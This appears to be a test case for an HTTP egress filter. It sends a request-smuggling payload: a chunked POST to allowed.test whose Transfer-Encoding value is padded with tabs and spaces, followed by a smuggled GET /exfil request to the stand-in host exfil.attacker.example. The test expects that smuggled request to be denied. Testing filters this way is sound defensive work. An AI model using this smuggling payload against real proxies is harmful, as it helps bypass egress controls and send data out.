# what: request smuggling shape on a connection to allowed.test: Transfer-Encoding "<TAB> chunked " (whitespace around the value, which both ends trim): the body ends where nginx says, so the request after it is judged on its own
# include: http
# expect-allowed: allowed.test http
# expect-denied: exfil.attacker.example 80 http host_changed
# inet: allow allowed.test
# expect-stdout: (?s)STATUS: HTTP/1.1 [0-9]{3}[^\n]*\n(PAGE: [^\n]*\n)?STATUS: HTTP/1.1 403 Forbidden
import socket


report(exchange("198.18.1.10", 80, b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: \t chunked \r\n\r\n0\r\n\r\nGET /exfil HTTP/1.1\r\nHost: exfil.attacker.example\r\n\r\n"))
